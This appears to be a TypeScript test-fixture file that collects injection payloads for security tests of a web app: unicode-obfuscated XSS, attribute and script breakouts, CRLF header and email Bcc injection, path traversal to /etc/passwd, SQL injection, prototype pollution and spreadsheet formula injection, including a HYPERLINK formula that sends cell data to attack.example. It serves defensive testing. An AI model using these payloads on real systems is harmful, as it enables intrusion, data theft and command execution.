import { AWAY, control, RUN } from '@/lib/testing-attack'
import { htmlPayloads } from '@/lib/testing-html-payloads'
import { markdownPayloads } from '@/lib/testing-markdown-payloads'
import { pagePayloads } from '@/lib/testing-page-payloads'

/**
 * Texts that try to run something, load something or break out of where they are put: whatever runs sets
 * `window.__hacked`, whatever loads comes from `attack.example`. Own compositions, for tests only.
 */
export type Payload = { family: string; text: string }

const placePayloads: Record<string, readonly string[]> = {
  unicode: [
    `${control(0x202e)}>tpircs/<${RUN}>tpircs<`,
    `a${control(0x2066)}<b>${control(0x2069)}<script>${RUN}</script>`,
    `${control(0x200b)}<scr${control(0x200b)}ipt>${RUN}</script>`,
    `${control(0xfeff)}<script>${RUN}</script>`,
    `<img src=x onerror=${control(0x2028)}${RUN}>`,
    `<a href="java${control(0x2029)}script:${RUN}">x</a>`,
    `${control(0)}${control(8)}${control(0xb)}${control(0xc)}${control(0x7f)}${control(0x85)}`,
    `\ud800<script>${RUN}</script>\udfff`,
    `<ſcript>${RUN}</ſcript>`,
    `<ıframe src=${AWAY}></ıframe>`,
    `ﹶ＂onclick＝${RUN}`,
    `${control(0xfffe)}${control(0xffff)}${control(0x1fffe)}`,
    `e${control(0x301).repeat(60)} zalgo`,
    `<a href="https://${control(0x430)}pple.example">x</a>`,
    `<img${control(0x3000)}src=x${control(0x3000)}onerror=${RUN}>`,
    `<img${control(0xb)}src=x${control(0xb)}onerror=${RUN}>`,
  ],
  attributes: [
    `" onmouseover="${RUN}`,
    `' onmouseover='${RUN}`,
    '` onmouseover=`__hacked=1',
    ` onmouseover=${RUN} `,
    `"autofocus onfocus="${RUN}`,
    `" style="position:fixed" x="`,
    `"><svg onload=${RUN}>`,
    `'><svg onload=${RUN}>`,
    `--><svg onload=${RUN}>`,
    `&quot;&gt;&lt;svg onload=${RUN}&gt;`,
    `&#34; onmouseover=&#34;${RUN}`,
    `\\" onmouseover=\\"${RUN}`,
    `x"srcset="${AWAY}/a.png 1x`,
    `x" data-media="med_01" alt="`,
    `/"/onclick="${RUN}"//`,
    `" id="main" class="fixed" name="location`,
  ],
  data: [
    `</script><script>${RUN}</script>`,
    `</ScRiPt ><img src=x onerror=${RUN}>`,
    `<!--<script>`,
    `","@type":"Person","x":"</script><script>${RUN}</script>`,
    `\\"});${RUN};({\\"a\\":\\"`,
    `';${RUN};//`,
    `";${RUN};//`,
    `\${${RUN}}`,
    '`;__hacked=1;`',
    `${control(0x2028)};${RUN};//`,
    `\n${RUN}\n//`,
    `]]></description><item><title><![CDATA[<script>${RUN}</script>]]></title></item>`,
    `</title></channel></rss><script>${RUN}</script>`,
    `&x;<!ENTITY x "y">`,
    `<content:encoded><![CDATA[<script>${RUN}</script>]]></content:encoded>`,
    `{"__proto__":{"__hacked":1}}`,
  ],
  headers: [
    `x\r\nSet-Cookie: hacked=1`,
    `x\r\n\r\n<script>${RUN}</script>`,
    `x\nLocation: ${AWAY}`,
    `x%0d%0aLocation:%20${AWAY}`,
    `a@b.example\r\nBcc: c@attack.example`,
    `x\u0000.png\r\nContent-Type: text/html`,
    `"; filename="x.html`,
    `../../../etc/passwd`,
    `..\\..\\web.config`,
    `x嘊Set-Cookie:hacked=1`,
  ],
  formulas: [
    `=HYPERLINK("${AWAY}?"&A1,"x")`,
    `=cmd|'/c calc'!A0`,
    `@SUM(1+1)*cmd|'/c calc'!A0`,
    `+1-cmd|'x'!A0`,
    `'; DROP TABLE articles; --`,
    `' OR '1'='1`,
    `" OR 1=1 /*`,
    `%' AND x MATCH '"`,
    `x" NEAR/0 (y* OR NOT {z}:^w`,
  ],
}

export const payloads: readonly Payload[] = Object.entries({
  ...htmlPayloads,
  ...pagePayloads,
  ...markdownPayloads,
  ...placePayloads,
}).flatMap(([family, texts]) => texts.map((text) => ({ family, text })))
